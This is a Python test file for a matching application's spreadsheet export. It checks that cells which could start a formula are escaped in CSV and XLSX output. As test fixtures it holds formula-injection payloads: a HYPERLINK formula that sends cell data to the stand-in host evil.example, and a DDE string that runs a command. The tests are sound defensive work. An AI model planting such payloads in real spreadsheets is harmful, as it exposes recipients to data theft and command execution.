"""No exported cell runs as a formula: text that a spreadsheet would take for one is escaped in
CSV and XLSX alike, XLSX text cells are strings, and numbers stay numbers (issue 24, #2)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy.orm import Session

from klimatmatch.core.spreadsheet_safety import FORMULA_START, neutralise
from klimatmatch.engagement import funnel
from klimatmatch.index import indexing
from klimatmatch.matching import export
from klimatmatch.matching import service as matching
from klimatmatch.matching.export import ExportFormat
from matcher import Embedder, MatchEngine
from models import Decision, Review, RunReason, crud
from tests.klimatmatch.engagement_world import challenge, people

HYPERLINK = '=HYPERLINK("http://evil.example/?c="&A2,"SiteCharge Nordic")'
TITLE = "+cmd|' /C calc'!A0"
REASONS = ["@SUM(1+1)", "-2+3", "\t=1", "\r=1"]
HOSTILE = [HYPERLINK, TITLE, *REASONS]


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def xlsx_cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert(content: bytes, fmt: ExportFormat) -> list[str]:
    """No cell is a formula or starts like one (a negative number is a number); returns every
    text cell as read back."""
    if fmt is ExportFormat.CSV:
        texts = [cell for row in csv_cells(content) for cell in row if not is_number(cell)]
    else:
        cells = xlsx_cells(content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert [text for text in texts if FORMULA_START.match(text)] == []
    return texts


@pytest.mark.parametrize("text", [*HOSTILE, "+46 8 123", " =1", "\x01=1", "＝1+1", "\n=1"])
def test_text_that_could_start_a_formula_is_escaped(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["SiteCharge Nordic", "", "a=b", "1-2", "'=1", -2.5, -3, None])
def test_anything_else_is_kept_as_it_is(value: object) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_a_frame_is_written_inert_with_numbers_as_numbers(fmt: ExportFormat) -> None:
    frame = pd.DataFrame(
        {
            "company": HOSTILE,
            "score": [-0.25, 0.5, 1.0, -1.5, 0.0, 2.0],
            "rank": range(1, 7),
            "hours": [None, 1.5, None, 2.0, None, 3.0],
        }
    )
    content = export.render(frame, fmt, sheet="sheet")
    texts = assert_inert(content, fmt)
    if fmt is ExportFormat.CSV:
        rows = csv_cells(content)
        assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
        assert rows[1][1:] == ["-0.25", "1", ""]
        return
    escaped = ["'" + text.replace("\r", "\n") for text in HOSTILE]  # XML reads CR as LF
    assert texts[4:] == escaped  # after the four headers
    sheet = openpyxl.load_workbook(io.BytesIO(content))["sheet"]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-0.25, "n")
    assert (sheet["C7"].value, sheet["D2"].value, sheet["D3"].value) == (6, None, 1.5)


@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_the_shortlist_export_escapes_names_titles_and_reasons(
    session: Session, tfidf: Embedder, fmt: ExportFormat
) -> None:
    who = people(session)
    engine = MatchEngine(tfidf)
    indexing.rebuild(session=session, engine=engine)
    target = challenge(session)
    run = matching.keep(
        session=session,
        run=matching.challenge_shortlist(
            session=session, engine=engine, challenge_id=target.id, k=5, user=who.coordinator
        ),
        reason=RunReason.EXPORTED,
    )
    ranked = [result.company_id for result in run.results]
    target.title = TITLE
    crud.get_company(session=session, company_id=ranked[0]).name = HYPERLINK
    for company_id, reason in zip(ranked[1:], REASONS, strict=True):
        session.add(
            Review(
                challenge_id=target.id,
                company_id=company_id,
                reviewer="coordinator",
                decision=Decision.MAYBE,
                reason=reason,
                note=reason,
            )
        )
    session.flush()
    frame = export.shortlist_frame(session=session, user=who.coordinator, challenge_id=target.id)
    content = export.render(frame, fmt)
    texts = assert_inert(content, fmt)
    lines = [text.replace("\r", "\n") for text in texts]  # XML reads a carriage return as \n
    for hostile in HOSTILE:
        assert "'" + hostile.replace("\r", "\n") in lines
    if fmt is ExportFormat.XLSX:
        for column in (7, 8):  # strength and score: numbers, not text
            numbers = [c for c in xlsx_cells(content) if c.column == column and c.row > 1]
            assert len(numbers) == 5 and all(isinstance(c.value, float) for c in numbers)
    rows = funnel.frame(funnel.funnel(session=session, user=who.stockholm, engine=engine, k=5))
    funnel_file = export.render(rows, fmt, sheet="funnel")
    assert "'" + TITLE in assert_inert(funnel_file, fmt)
